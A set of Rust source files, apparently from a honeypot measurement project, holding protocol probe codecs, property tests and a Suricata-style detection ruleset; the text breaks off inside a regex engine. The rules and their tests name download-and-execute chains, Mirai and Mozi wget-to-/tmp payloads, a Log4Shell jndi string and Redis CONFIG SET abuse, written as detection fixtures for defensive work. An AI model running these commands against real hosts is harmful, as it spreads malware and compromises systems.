    format!("SSH-2.0-{software}\r\n").into_bytes()
}

/// Does this first payload look like an SSH identification string?
pub fn is_ssh_banner(payload: &[u8]) -> bool {
    payload.starts_with(b"SSH-")
}

/// Extract the software token from a banner (`SSH-2.0-<software>`).
pub fn software_of(payload: &[u8]) -> Option<String> {
    if !is_ssh_banner(payload) {
        return None;
    }
    let line_end = payload
        .iter()
        .position(|&b| b == b'\r' || b == b'\n')
        .unwrap_or(payload.len());
    let line = std::str::from_utf8(&payload[..line_end]).ok()?;
    // SSH-protoversion-softwareversion [SP comments]
    let mut parts = line.splitn(3, '-');
    parts.next()?; // "SSH"
    parts.next()?; // protocol version
    let rest = parts.next()?;
    Some(rest.split(' ').next().unwrap_or(rest).to_string())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn banner_round_trip() {
        let b = build_banner("OpenSSH_8.9");
        assert!(is_ssh_banner(&b));
        assert_eq!(software_of(&b).as_deref(), Some("OpenSSH_8.9"));
    }

    #[test]
    fn software_with_comment() {
        assert_eq!(
            software_of(b"SSH-2.0-Go comment here\r\n").as_deref(),
            Some("Go")
        );
    }

    #[test]
    fn rejects_non_ssh() {
        assert!(!is_ssh_banner(b"GET / HTTP/1.1"));
        assert_eq!(software_of(b"HTTP"), None);
        assert_eq!(software_of(b"SSH-"), None);
    }
}
