//! NTP client probes (mode 3), as carried over TCP by port-agnostic
//! scanners probing for time services.

/// Build a 48-byte NTPv4 client request (LI=0, VN=4, Mode=3).
pub fn build_client_request() -> Vec<u8> {
    let mut p = vec![0u8; 48];
    p[0] = 0x23; // 00 100 011 → LI 0, VN 4, mode 3 (client)
    p
}

/// Does this first payload look like an NTP client packet?
pub fn is_ntp(payload: &[u8]) -> bool {
    payload.len() == 48 && (payload[0] & 0x07) == 3 && (payload[0] >> 6) == 0
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn round_trip() {
        assert!(is_ntp(&build_client_request()));
    }

    #[test]
    fn rejects_wrong_size_or_mode() {
        assert!(!is_ntp(&[0x23; 47]));
        assert!(!is_ntp(&[0x24; 48])); // mode 4 = server
        assert!(!is_ntp(b"GET / HTTP/1.1"));
    }
}
