//! SIP (RFC 3261): OPTIONS probes as sent by VoIP scanners (sipvicious).

/// Build a SIP OPTIONS request.
pub fn build_options(target: &str) -> Vec<u8> {
    format!(
        "OPTIONS sip:{target} SIP/2.0\r\nVia: SIP/2.0/TCP scanner\r\nMax-Forwards: 70\r\n\r\n"
    )
    .into_bytes()
}

/// Does this first payload look like a SIP request?
pub fn is_sip(payload: &[u8]) -> bool {
    let line_end = payload
        .iter()
        .position(|&b| b == b'\r' || b == b'\n')
        .unwrap_or(payload.len());
    match std::str::from_utf8(&payload[..line_end]) {
        Ok(line) => line.ends_with("SIP/2.0") && line.split(' ').count() >= 3,
        Err(_) => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn round_trip() {
        assert!(is_sip(&build_options("100@10.0.0.1")));
    }

    #[test]
    fn rejects_http_and_rtsp() {
        assert!(!is_sip(b"GET / HTTP/1.1\r\n"));
        assert!(!is_sip(b"OPTIONS rtsp://x RTSP/1.0\r\n"));
    }
}
