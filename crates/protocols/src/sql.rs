//! SQL: a TDS PRELOGIN packet (MSSQL), the client-first SQL probe LZR uses.

/// Build a minimal TDS PRELOGIN packet.
pub fn build_prelogin() -> Vec<u8> {
    // Option: VERSION (token 0, offset 6, length 6) + terminator 0xFF,
    // then 6 bytes of version data.
    let body: [u8; 12] = [0x00, 0x00, 0x06, 0x00, 0x06, 0xFF, 0x09, 0x00, 0x00, 0x00, 0x00, 0x00];
    let total = 8 + body.len();
    let mut p = Vec::with_capacity(total);
    p.push(0x12); // type: PRELOGIN
    p.push(0x01); // status: EOM
    p.extend_from_slice(&(total as u16).to_be_bytes());
    p.extend_from_slice(&[0x00, 0x00]); // SPID
    p.push(0x00); // packet id
    p.push(0x00); // window
    p.extend_from_slice(&body);
    p
}

/// Does this first payload look like a TDS PRELOGIN?
pub fn is_sql(payload: &[u8]) -> bool {
    payload.len() >= 8 && payload[0] == 0x12 && payload[1] == 0x01
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn round_trip() {
        let p = build_prelogin();
        assert!(is_sql(&p));
        let len = u16::from_be_bytes([p[2], p[3]]) as usize;
        assert_eq!(len, p.len());
    }

    #[test]
    fn rejects_others() {
        assert!(!is_sql(&[0x12, 0x01])); // truncated
        assert!(!is_sql(b"GET / HTTP/1.1"));
    }
}
