//! Telnet option negotiation (RFC 854/855).
//!
//! Telnet scanners that speak first open with IAC negotiation sequences
//! (`0xFF` followed by WILL/WONT/DO/DONT + option). Interactive credential
//! harvesting happens at the Cowrie layer; this codec covers detection of
//! Telnet spoken on unexpected ports (§6).

/// IAC — "interpret as command".
pub const IAC: u8 = 0xFF;
/// WILL command byte.
pub const WILL: u8 = 0xFB;
/// WONT command byte.
pub const WONT: u8 = 0xFC;
/// DO command byte.
pub const DO: u8 = 0xFD;
/// DONT command byte.
pub const DONT: u8 = 0xFE;

/// Build an initial client negotiation: `IAC DO opt` triples.
pub fn build_negotiation(options: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(options.len() * 3);
    for &opt in options {
        out.extend_from_slice(&[IAC, DO, opt]);
    }
    out
}

/// Does this first payload look like Telnet negotiation?
pub fn is_telnet_negotiation(payload: &[u8]) -> bool {
    payload.len() >= 3
        && payload[0] == IAC
        && matches!(payload[1], WILL | WONT | DO | DONT)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn negotiation_round_trip() {
        let p = build_negotiation(&[1, 3]); // ECHO, SGA
        assert_eq!(p, vec![IAC, DO, 1, IAC, DO, 3]);
        assert!(is_telnet_negotiation(&p));
    }

    #[test]
    fn rejects_non_telnet() {
        assert!(!is_telnet_negotiation(b"GET / HTTP/1.1"));
        assert!(!is_telnet_negotiation(&[IAC])); // truncated
        assert!(!is_telnet_negotiation(&[IAC, 0x01, 0x01])); // not a negotiation verb
        assert!(!is_telnet_negotiation(&[]));
    }
}
