//! HTTP/1.x request building, parsing, detection, and the paper's payload
//! normalization.
//!
//! §3.3: payload comparison for HTTP "directly compare\[s\] the full payload
//! after removing ephemeral values (i.e., Date, Host, and Content-Length
//! fields)" — that is [`normalize`].

/// A parsed (or under-construction) HTTP/1.x request.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct HttpRequest {
    /// Request method (`GET`, `POST`, …).
    pub method: String,
    /// Request target (path or absolute URI).
    pub uri: String,
    /// Protocol version token (`HTTP/1.1`).
    pub version: String,
    /// Header name/value pairs in order.
    pub headers: Vec<(String, String)>,
    /// Message body bytes.
    pub body: Vec<u8>,
}

/// Methods we accept when detecting HTTP.
const METHODS: [&str; 9] = [
    "GET", "POST", "HEAD", "PUT", "DELETE", "OPTIONS", "PATCH", "CONNECT", "TRACE",
];

impl HttpRequest {
    /// Start a request with no headers or body.
    pub fn new(method: &str, uri: &str) -> Self {
        HttpRequest {
            method: method.to_string(),
            uri: uri.to_string(),
            version: "HTTP/1.1".to_string(),
            headers: Vec::new(),
            body: Vec::new(),
        }
    }

    /// Append a header (builder style).
    pub fn header(mut self, name: &str, value: &str) -> Self {
        self.headers.push((name.to_string(), value.to_string()));
        self
    }

    /// Set the body and a matching `Content-Length` header (builder style).
    pub fn body(mut self, body: &[u8]) -> Self {
        self.headers
            .push(("Content-Length".to_string(), body.len().to_string()));
        self.body = body.to_vec();
        self
    }

    /// First header value with the given (case-insensitive) name.
    pub fn header_value(&self, name: &str) -> Option<&str> {
        self.headers
            .iter()
            .find(|(n, _)| n.eq_ignore_ascii_case(name))
            .map(|(_, v)| v.as_str())
    }

    /// Serialize to wire bytes.
    pub fn to_bytes(&self) -> Vec<u8> {
        let mut out = Vec::with_capacity(64 + self.body.len());
        out.extend_from_slice(
            format!("{} {} {}\r\n", self.method, self.uri, self.version).as_bytes(),
        );
        for (n, v) in &self.headers {
            out.extend_from_slice(format!("{n}: {v}\r\n").as_bytes());
        }
        out.extend_from_slice(b"\r\n");
        out.extend_from_slice(&self.body);
        out
    }

    /// Parse wire bytes into a request. Accepts anything with a plausible
    /// request line; unparseable header lines are skipped (scanners send
    /// plenty of malformed requests and we still want to record them).
    pub fn parse(bytes: &[u8]) -> Option<HttpRequest> {
        let head_end = find_subslice(bytes, b"\r\n\r\n");
        let (head, body) = match head_end {
            Some(i) => (&bytes[..i], bytes[i + 4..].to_vec()),
            None => (bytes, Vec::new()),
        };
        let text = String::from_utf8_lossy(head);
        let mut lines = text.split("\r\n");
        let request_line = lines.next()?;
        let mut parts = request_line.splitn(3, ' ');
        let method = parts.next()?.to_string();
        let uri = parts.next()?.to_string();
        let version = parts.next().unwrap_or("").to_string();
        if !METHODS.contains(&method.as_str()) || !version.starts_with("HTTP/") {
            return None;
        }
        let mut headers = Vec::new();
        for line in lines {
            if line.is_empty() {
                continue;
            }
            if let Some((n, v)) = line.split_once(':') {
                headers.push((n.trim().to_string(), v.trim().to_string()));
            }
        }
        Some(HttpRequest {
            method,
            uri,
            version,
            headers,
            body,
        })
    }
}

/// Does this first payload look like an HTTP request? (Request line with a
/// known method and an `HTTP/` version token.)
pub fn looks_like_http(payload: &[u8]) -> bool {
    let line_end = payload
        .iter()
        .position(|&b| b == b'\r' || b == b'\n')
        .unwrap_or(payload.len());
    let line = match std::str::from_utf8(&payload[..line_end]) {
        Ok(s) => s,
        Err(_) => return false,
    };
    let mut parts = line.split(' ');
    let method_ok = parts
        .next()
        .map(|m| METHODS.contains(&m))
        .unwrap_or(false);
    let version_ok = line.rsplit(' ').next().map(|v| v.starts_with("HTTP/")).unwrap_or(false);
    method_ok && version_ok
}

/// §3.3 normalization: remove the values of the ephemeral `Date`, `Host`,
/// and `Content-Length` headers so that otherwise-identical requests
/// compare equal across vantage points. Non-HTTP payloads are returned
/// unchanged.
pub fn normalize(payload: &[u8]) -> Vec<u8> {
    let req = match HttpRequest::parse(payload) {
        Some(r) => r,
        None => return payload.to_vec(),
    };
    let mut out = req.clone();
    out.headers = req
        .headers
        .iter()
        .map(|(n, v)| {
            if ["date", "host", "content-length"].contains(&n.to_ascii_lowercase().as_str()) {
                (n.clone(), "*".to_string())
            } else {
                (n.clone(), v.clone())
            }
        })
        .collect();
    out.to_bytes()
}

/// Find the first occurrence of `needle` in `haystack`.
pub(crate) fn find_subslice(haystack: &[u8], needle: &[u8]) -> Option<usize> {
    if needle.is_empty() || haystack.len() < needle.len() {
        return None;
    }
    haystack
        .windows(needle.len())
        .position(|w| w == needle)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn build_and_parse_round_trip() {
        let req = HttpRequest::new("POST", "/login")
            .header("Host", "1.2.3.4")
            .header("User-Agent", "test")
            .body(b"user=admin&pass=admin");
        let bytes = req.to_bytes();
        let parsed = HttpRequest::parse(&bytes).unwrap();
        assert_eq!(parsed.method, "POST");
        assert_eq!(parsed.uri, "/login");
        assert_eq!(parsed.header_value("host"), Some("1.2.3.4"));
        assert_eq!(parsed.header_value("Content-Length"), Some("21"));
        assert_eq!(parsed.body, b"user=admin&pass=admin");
    }

    #[test]
    fn detection_accepts_http_rejects_others() {
        assert!(looks_like_http(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"));
        assert!(looks_like_http(b"POST /cgi-bin/x HTTP/1.0\r\n\r\n"));
        assert!(!looks_like_http(b"OPTIONS rtsp://x RTSP/1.0\r\n\r\n"));
        assert!(!looks_like_http(b"SSH-2.0-OpenSSH\r\n"));
        assert!(!looks_like_http(b"\x16\x03\x01\x00\x05"));
        assert!(!looks_like_http(b""));
        assert!(!looks_like_http(b"NONSENSE / HTTP/1.1\r\n"));
    }

    #[test]
    fn normalization_masks_ephemeral_values() {
        let a = HttpRequest::new("GET", "/")
            .header("Host", "10.0.0.1")
            .header("Date", "Mon, 05 Jul 2021 00:00:00 GMT")
            .header("X-Probe", "abc")
            .to_bytes();
        let b = HttpRequest::new("GET", "/")
            .header("Host", "10.9.9.9")
            .header("Date", "Tue, 06 Jul 2021 11:11:11 GMT")
            .header("X-Probe", "abc")
            .to_bytes();
        assert_ne!(a, b);
        assert_eq!(normalize(&a), normalize(&b));
    }

    #[test]
    fn normalization_preserves_meaningful_differences() {
        let a = HttpRequest::new("GET", "/a").header("Host", "h").to_bytes();
        let b = HttpRequest::new("GET", "/b").header("Host", "h").to_bytes();
        assert_ne!(normalize(&a), normalize(&b));
    }

    #[test]
    fn normalization_passes_non_http_through() {
        let raw = b"\xff\xfd\x01garbage";
        assert_eq!(normalize(raw), raw.to_vec());
    }

    #[test]
    fn parse_tolerates_malformed_headers() {
        let bytes = b"GET /x HTTP/1.1\r\ngood: yes\r\nbroken-line-no-colon\r\n\r\n";
        let req = HttpRequest::parse(bytes).unwrap();
        assert_eq!(req.headers.len(), 1);
        assert_eq!(req.header_value("good"), Some("yes"));
    }

    #[test]
    fn parse_rejects_non_http() {
        assert!(HttpRequest::parse(b"*1\r\n$4\r\nPING\r\n").is_none());
        assert!(HttpRequest::parse(b"").is_none());
    }

    #[test]
    fn find_subslice_works() {
        assert_eq!(find_subslice(b"abcdef", b"cd"), Some(2));
        assert_eq!(find_subslice(b"abcdef", b"xy"), None);
        assert_eq!(find_subslice(b"ab", b"abc"), None);
        assert_eq!(find_subslice(b"abc", b""), None);
    }
}
