//! Protocol identities: the 13 LZR fingerprinting targets.

use std::fmt;

/// One of the 13 TCP protocols the §6 pipeline fingerprints.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum ProtocolId {
    /// Hypertext Transfer Protocol.
    Http,
    /// TLS (a ClientHello as first payload).
    Tls,
    /// Secure Shell.
    Ssh,
    /// Telnet.
    Telnet,
    /// Server Message Block.
    Smb,
    /// Real Time Streaming Protocol.
    Rtsp,
    /// Session Initiation Protocol.
    Sip,
    /// Network Time Protocol (TCP-wrapped probe).
    Ntp,
    /// Remote Desktop Protocol.
    Rdp,
    /// Android Debug Bridge.
    Adb,
    /// Niagara Fox (building automation).
    Fox,
    /// Redis.
    Redis,
    /// SQL (TDS prelogin-style probe).
    Sql,
}

impl ProtocolId {
    /// All 13 protocols in fingerprinting priority order.
    pub const ALL: [ProtocolId; 13] = [
        ProtocolId::Tls,
        ProtocolId::Http,
        ProtocolId::Rtsp,
        ProtocolId::Sip,
        ProtocolId::Ssh,
        ProtocolId::Smb,
        ProtocolId::Rdp,
        ProtocolId::Adb,
        ProtocolId::Fox,
        ProtocolId::Redis,
        ProtocolId::Sql,
        ProtocolId::Ntp,
        ProtocolId::Telnet,
    ];

    /// Canonical upper-case label (matches the paper's tables).
    pub fn label(&self) -> &'static str {
        match self {
            ProtocolId::Http => "HTTP",
            ProtocolId::Tls => "TLS",
            ProtocolId::Ssh => "SSH",
            ProtocolId::Telnet => "TELNET",
            ProtocolId::Smb => "SMB",
            ProtocolId::Rtsp => "RTSP",
            ProtocolId::Sip => "SIP",
            ProtocolId::Ntp => "NTP",
            ProtocolId::Rdp => "RDP",
            ProtocolId::Adb => "ADB",
            ProtocolId::Fox => "FOX",
            ProtocolId::Redis => "REDIS",
            ProtocolId::Sql => "SQL",
        }
    }

    /// Parse a label produced by [`label`](Self::label).
    pub fn from_label(s: &str) -> Option<ProtocolId> {
        Self::ALL.iter().copied().find(|p| p.label() == s)
    }
}

impl fmt::Display for ProtocolId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.label())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn all_contains_13_distinct() {
        let mut v = ProtocolId::ALL.to_vec();
        v.sort();
        v.dedup();
        assert_eq!(v.len(), 13);
    }

    #[test]
    fn label_round_trips() {
        for p in ProtocolId::ALL {
            assert_eq!(ProtocolId::from_label(p.label()), Some(p));
        }
        assert_eq!(ProtocolId::from_label("GOPHER"), None);
    }

    #[test]
    fn display_matches_label() {
        assert_eq!(ProtocolId::Http.to_string(), "HTTP");
        assert_eq!(ProtocolId::Telnet.to_string(), "TELNET");
    }
}
