//! Crate-local property tests for the wire-format codecs: every builder's
//! output survives its own recognizer/parser, and every parser tolerates
//! arbitrary bytes without panicking. The root-level `tests/props.rs`
//! exercises the same parsers through the full-crate facade; this file is
//! the tighter loop that runs with `cargo test -p cw-protocols`.

use cw_protocols::{http, ssh, telnet};
use proptest::prelude::*;

proptest! {
    // SSH banners: any printable, space-free software token survives the
    // build → recognize → extract round trip (RFC 4253 allows `-` inside
    // the software version, so the token strategy includes it).
    #[test]
    fn ssh_banner_round_trip(software in "[!-~]{1,24}") {
        let banner = ssh::build_banner(&software);
        prop_assert!(ssh::is_ssh_banner(&banner));
        prop_assert_eq!(ssh::software_of(&banner), Some(software));
    }

    // With a trailing comment the extractor must return only the token.
    #[test]
    fn ssh_software_stops_at_comment(software in "[!-~]{1,16}", comment in "[ -~]{0,16}") {
        let banner = format!("SSH-2.0-{software} {comment}\r\n");
        prop_assert_eq!(ssh::software_of(banner.as_bytes()), Some(software));
    }

    #[test]
    fn ssh_parsers_never_panic(payload in proptest::collection::vec(any::<u8>(), 0..256)) {
        let _ = ssh::is_ssh_banner(&payload);
        let _ = ssh::software_of(&payload);
    }

    // Telnet: built negotiations are always recognized, and recognition
    // never panics on arbitrary (including truncated) input.
    #[test]
    fn telnet_negotiation_round_trip(options in proptest::collection::vec(any::<u8>(), 1..8)) {
        let wire = telnet::build_negotiation(&options);
        prop_assert_eq!(wire.len(), options.len() * 3);
        prop_assert!(telnet::is_telnet_negotiation(&wire));
        // Every triple is IAC DO opt, in input order.
        for (i, &opt) in options.iter().enumerate() {
            prop_assert_eq!(&wire[i * 3..i * 3 + 3], &[telnet::IAC, telnet::DO, opt]);
        }
    }

    #[test]
    fn telnet_recognizer_never_panics(payload in proptest::collection::vec(any::<u8>(), 0..64)) {
        let _ = telnet::is_telnet_negotiation(&payload);
    }

    // HTTP request line: method and URI survive build → parse, and the
    // recognizer agrees with the parser on built requests.
    #[test]
    fn http_request_line_round_trip(
        method in prop::sample::select(vec!["GET", "POST", "HEAD", "PUT", "DELETE"]),
        path in "[!-~]{0,24}",
    ) {
        let uri = format!("/{path}");
        let wire = http::HttpRequest::new(method, &uri).to_bytes();
        prop_assert!(http::looks_like_http(&wire));
        let parsed = http::HttpRequest::parse(&wire).expect("built request must parse");
        prop_assert_eq!(parsed.method.as_str(), method);
        prop_assert_eq!(parsed.uri, uri);
    }

    #[test]
    fn http_parsers_never_panic(payload in proptest::collection::vec(any::<u8>(), 0..256)) {
        let _ = http::looks_like_http(&payload);
        let _ = http::HttpRequest::parse(&payload);
        let _ = http::normalize(&payload);
    }
}
