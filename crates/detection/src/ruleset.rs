//! The built-in vetted ruleset.
//!
//! The paper filtered Suricata's 32K rules down to a manually verified
//! subset that only fires on payloads which bypass authority or alter
//! service state (§3.2), published as a Pastebin dump. This module is the
//! equivalent artifact for our exploit corpus: every rule is written in the
//! crate's rule language, parsed at construction (so a typo fails tests,
//! not detection), and covers one real attack family that the simulated
//! attacker population sends.

use crate::parse::parse_rule;
use crate::rule::Rule;

/// The textual source of the built-in rules, one per line.
pub const BUILTIN_RULES: &str = r#"
alert http any any -> any any (msg:"Log4Shell CVE-2021-44228 jndi probe"; content:"${jndi:"; nocase; classtype:web-application-attack; sid:2021001;)
alert tcp any any -> any any (msg:"Shell download-and-execute chain"; content:"wget"; pcre:"/wget.*(\.sh|\.bin|tftp)/i"; classtype:trojan-activity; sid:2021002;)
alert tcp any any -> any any (msg:"Shell cd /tmp staging"; content:"cd /tmp"; classtype:trojan-activity; sid:2021003;)
alert http any any -> any any (msg:"GPON router RCE CVE-2018-10561"; content:"/GponForm/diag_Form"; classtype:web-application-attack; sid:2021004;)
alert http any any -> any any (msg:"Netgear DGN setup.cgi RCE"; content:"/setup.cgi?next_file=netgear"; classtype:web-application-attack; sid:2021005;)
alert http any any -> any any (msg:"PHPUnit eval-stdin RCE CVE-2017-9841"; content:"eval-stdin.php"; classtype:web-application-attack; sid:2021006;)
alert http any any -> any any (msg:"Boaform admin login bruteforce"; content:"POST"; offset:0; depth:4; content:"/boaform/admin/formLogin"; distance:0; within:40; classtype:attempted-admin; sid:2021007;)
alert http any any -> any any (msg:"HTTP POST user login bruteforce"; content:"POST"; offset:0; depth:4; content:"username="; classtype:attempted-user; sid:2021008;)
alert tcp any any -> any 6379 (msg:"Redis CONFIG SET persistence abuse"; content:"CONFIG"; nocase; content:"SET"; distance:0; nocase; classtype:protocol-command-decode; sid:2021009;)
alert tcp any any -> any any (msg:"ADB remote shell command"; content:"CNXN"; offset:0; depth:4; classtype:attempted-admin; sid:2021010;)
alert http any any -> any any (msg:"Mozi /shell cd+tmp botnet spreader"; content:"/shell?cd+/tmp"; classtype:trojan-activity; sid:2021011;)
alert http any any -> any any (msg:"ThinkPHP invokefunction RCE"; content:"invokefunction"; content:"call_user_func_array"; distance:0; classtype:web-application-attack; sid:2021012;)
alert http any any -> any [7547,5555] (msg:"TR-064 NewNTPServer command injection"; content:"<NewNTPServer1>"; classtype:attempted-admin; sid:2021013;)
alert http any any -> any any (msg:"nmap service fingerprint probe"; content:"/nice ports,/Trinity.txt.bak"; classtype:attempted-recon; sid:2021014;)
alert tcp any any -> any any (msg:"SMB trans2 exploit attempt"; content:"|ff|SMB"; offset:4; depth:4; content:"|32|"; distance:0; within:1; classtype:trojan-activity; sid:2021015;)
alert http any any -> any any (msg:"Hadoop YARN unauthenticated application submit"; content:"/ws/v1/cluster/apps/new-application"; classtype:web-application-attack; sid:2021016;)
alert http any any -> any any (msg:"HTTP POST api user login bruteforce"; content:"POST"; offset:0; depth:4; content:"/api/user/login"; distance:0; within:30; classtype:attempted-user; sid:2021017;)
alert http any any -> any any (msg:"Jaws webserver RCE shell retrieval"; content:"/shell?"; content:"busybox"; distance:0; nocase; classtype:trojan-activity; sid:2021018;)
"#;

/// A compiled set of rules, evaluated in sid order.
#[derive(Debug, Clone)]
pub struct RuleSet {
    rules: Vec<Rule>,
}

impl RuleSet {
    /// Compile the built-in vetted ruleset.
    ///
    /// # Example
    ///
    /// ```
    /// use cw_detection::RuleSet;
    ///
    /// let rules = RuleSet::builtin();
    /// let exploit = b"GET /shell?cd+/tmp;wget+http://x/Mozi.m HTTP/1.1\r\n\r\n";
    /// assert!(rules.is_malicious(exploit, 8080));
    /// assert!(!rules.is_malicious(b"GET / HTTP/1.1\r\n\r\n", 80));
    /// ```
    ///
    /// # Panics
    /// Panics if any built-in rule fails to parse — that is a crate bug and
    /// the unit tests catch it.
    pub fn builtin() -> Self {
        Self::from_source(BUILTIN_RULES).expect("builtin ruleset must parse")
    }

    /// The built-in rule set, compiled once per process and shared.
    ///
    /// [`RuleSet::builtin`] re-parses the rule source on every call; hot
    /// paths (dataset builds across fleet workers) should borrow this
    /// cached instance instead.
    pub fn builtin_cached() -> &'static RuleSet {
        static BUILTIN: std::sync::OnceLock<RuleSet> = std::sync::OnceLock::new();
        BUILTIN.get_or_init(RuleSet::builtin)
    }

    /// Compile a rule set from textual source (one rule per non-empty line;
    /// `#` lines are comments).
    pub fn from_source(source: &str) -> Result<Self, crate::parse::ParseError> {
        let mut rules = Vec::new();
        for line in source.lines() {
            let line = line.trim();
            if line.is_empty() || line.starts_with('#') {
                continue;
            }
            rules.push(parse_rule(line)?);
        }
        Ok(RuleSet { rules })
    }

    /// Number of rules.
    pub fn len(&self) -> usize {
        self.rules.len()
    }

    /// True when no rules are loaded.
    pub fn is_empty(&self) -> bool {
        self.rules.is_empty()
    }

    /// All rules that fire on this payload/port.
    pub fn matches(&self, payload: &[u8], port: u16) -> Vec<&Rule> {
        self.rules
            .iter()
            .filter(|r| r.matches(payload, port))
            .collect()
    }

    /// Does any *malicious-classtype* rule fire? (Recon rules may fire
    /// without making the payload malicious — the paper's bar is authority
    /// bypass or state alteration.)
    pub fn is_malicious(&self, payload: &[u8], port: u16) -> bool {
        self.rules
            .iter()
            .any(|r| r.classtype.is_malicious() && r.matches(payload, port))
    }

    /// Iterate the rules.
    pub fn iter(&self) -> impl Iterator<Item = &Rule> {
        self.rules.iter()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use cw_protocols::http::HttpRequest;

    #[test]
    fn builtin_parses_and_is_nonempty() {
        let rs = RuleSet::builtin();
        assert!(rs.len() >= 15, "got {}", rs.len());
        // All sids unique.
        let mut sids: Vec<u32> = rs.iter().map(|r| r.sid).collect();
        sids.sort_unstable();
        sids.dedup();
        assert_eq!(sids.len(), rs.len());
    }

    #[test]
    fn log4shell_fires() {
        let rs = RuleSet::builtin();
        let req = HttpRequest::new("GET", "/")
            .header("User-Agent", "${jndi:ldap://evil/a}")
            .to_bytes();
        assert!(rs.is_malicious(&req, 80));
        let hits = rs.matches(&req, 80);
        assert!(hits.iter().any(|r| r.sid == 2_021_001));
    }

    #[test]
    fn benign_get_does_not_fire() {
        let rs = RuleSet::builtin();
        let req = HttpRequest::new("GET", "/")
            .header("Host", "example")
            .header("User-Agent", "Mozilla/5.0 zgrab/0.x")
            .to_bytes();
        assert!(!rs.is_malicious(&req, 80));
        assert!(rs.matches(&req, 80).is_empty());
    }

    #[test]
    fn shell_chain_fires_on_raw_tcp() {
        let rs = RuleSet::builtin();
        assert!(rs.is_malicious(b"cd /tmp; wget http://1.2.3.4/mirai.sh; sh mirai.sh", 23));
        assert!(!rs.is_malicious(b"wget alone without the payload", 23));
    }

    #[test]
    fn nmap_probe_fires_but_is_not_malicious() {
        let rs = RuleSet::builtin();
        let req = HttpRequest::new("GET", "/nice ports,/Trinity.txt.bak").to_bytes();
        assert!(!rs.matches(&req, 80).is_empty());
        assert!(!rs.is_malicious(&req, 80));
    }

    #[test]
    fn redis_rule_is_port_scoped() {
        let rs = RuleSet::builtin();
        let payload = b"*4\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$3\r\ndir\r\n$5\r\n/tmp/\r\n";
        assert!(rs.is_malicious(payload, 6379));
        assert!(!rs.is_malicious(payload, 80));
    }

    #[test]
    fn post_login_bruteforce_fires() {
        let rs = RuleSet::builtin();
        let req = HttpRequest::new("POST", "/api/user/login")
            .header("Host", "x")
            .body(b"user=admin&pass=123456")
            .to_bytes();
        assert!(rs.is_malicious(&req, 80));
    }

    #[test]
    fn comment_and_blank_lines_skipped() {
        let rs = RuleSet::from_source(
            "# comment\n\nalert tcp any any -> any any (msg:\"x\"; content:\"evil\"; classtype:bad-unknown; sid:1;)\n",
        )
        .unwrap();
        assert_eq!(rs.len(), 1);
    }

    #[test]
    fn smb_exploit_vs_plain_negotiate() {
        let rs = RuleSet::builtin();
        let plain = cw_protocols::smb::build_negotiate();
        assert!(!rs.is_malicious(&plain, 445));
        // A trans2 (0x32) command in place of negotiate (0x72) is the
        // exploit signature.
        let mut exploit = plain.clone();
        assert_eq!(exploit[8], 0x72);
        exploit[8] = 0x32;
        assert!(rs.is_malicious(&exploit, 445));
    }
}
