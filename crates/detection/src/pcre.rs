//! A restricted regex engine for rule `pcre:` options.
//!
//! Supported syntax (enough for the vetted ruleset, nothing more):
//! literal bytes, `.` (any byte), `[...]` character classes (ranges,
//! escapes, `^` negation), `*` (zero-or-more of previous atom), `+`
//! (one-or-more), `?` (optional), `\` escapes, `^`/`$` anchors at the
//! pattern edges, and the `i` flag (case-insensitive). A `^` or `$`
//! anywhere but its edge is a literal byte. Matching is unanchored
//! substring search unless `^` anchors it.
//!
//! Patterns are trusted (they ship with the crate), inputs are not:
//! sequential quantifiers make backtracking polynomial rather than
//! exponential, but a hostile input can still drive it superlinear, so
//! every match runs under a step budget. [`PcreLite::is_match`] treats
//! budget exhaustion as no-match; [`PcreLite::is_match_bounded`] exposes
//! it as `None` for callers that must distinguish.

/// A compiled restricted-PCRE pattern.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PcreLite {
    atoms: Vec<(Atom, Repeat)>,
    nocase: bool,
    anchor_start: bool,
    anchor_end: bool,
    source: String,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Atom {
    Literal(u8),
    Any,
    /// 256-bit membership bitmap (negation folded in at compile time).
    Class([u64; 4]),
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Repeat {
    One,
    ZeroOrMore,
    OneOrMore,
    ZeroOrOne,
}

/// Errors from pattern compilation.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum PcreError {
    /// `/pattern/flags` framing missing.
    BadFraming,
    /// Unknown flag character.
    UnknownFlag(char),
    /// Quantifier with nothing to repeat.
    DanglingQuantifier,
    /// Trailing backslash.
    TrailingEscape,
    /// `[` without a closing `]`.
    UnclosedClass,
    /// Class range with its ends reversed (e.g. `[z-a]`).
    BadClassRange,
}

impl std::fmt::Display for PcreError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            PcreError::BadFraming => write!(f, "pattern must be framed as /pattern/flags"),
            PcreError::UnknownFlag(c) => write!(f, "unknown flag '{c}'"),
            PcreError::DanglingQuantifier => write!(f, "quantifier with nothing to repeat"),
            PcreError::TrailingEscape => write!(f, "trailing backslash"),
            PcreError::UnclosedClass => write!(f, "character class missing ']'"),
            PcreError::BadClassRange => write!(f, "character class range is reversed"),
        }
    }
}

impl std::error::Error for PcreError {}

impl PcreLite {
    /// Compile a `/pattern/flags` string.
    pub fn compile(framed: &str) -> Result<PcreLite, PcreError> {
        let inner = framed.strip_prefix('/').ok_or(PcreError::BadFraming)?;
        let slash = inner.rfind('/').ok_or(PcreError::BadFraming)?;
        let (pattern, flags) = inner.split_at(slash);
        let flags = &flags[1..];
        let mut nocase = false;
        for c in flags.chars() {
            match c {
                'i' => nocase = true,
                's' => {} // `.` already matches everything, incl. newline
